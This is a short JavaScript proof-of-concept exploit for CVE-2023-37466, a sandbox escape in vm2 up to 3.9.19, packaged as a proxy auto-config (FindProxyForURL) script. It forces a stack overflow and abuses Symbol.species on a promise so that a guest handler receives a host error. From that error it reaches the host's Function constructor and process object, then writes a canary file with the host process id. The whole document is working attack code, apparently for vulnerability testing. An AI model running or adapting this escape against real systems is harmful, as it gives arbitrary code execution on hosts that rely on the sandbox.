// GHSA-cchq-frgv-rjh5 (CVE-2023-37466), all of vm2 up to 3.9.19: a promise takes its class from where the guest says, so an
// error of the host, made at the end of the stack, comes to a handler of the guest as it is.
var outcome = new Error('nothing was caught');
async function endOfStack() {
  (function deeper() {
    new Error().stack;
    deeper();
  })();
}
function caught(error) {
  try {
    var make = error.constructor.constructor;
    var find = make('return process');
    var host = find();
    host.getBuiltinModule('fs').writeFileSync(CANARY, String(host.pid));
  } catch (failure) {
    outcome = failure;
  }
}
var promise = endOfStack();
promise.constructor = {
  [Symbol.species]: class {
    constructor(executor) {
      executor(function () {}, caught);
    }
  },
};
promise.then();
function FindProxyForURL(url, host) {
  dnsResolve(host);
  throw outcome;
}
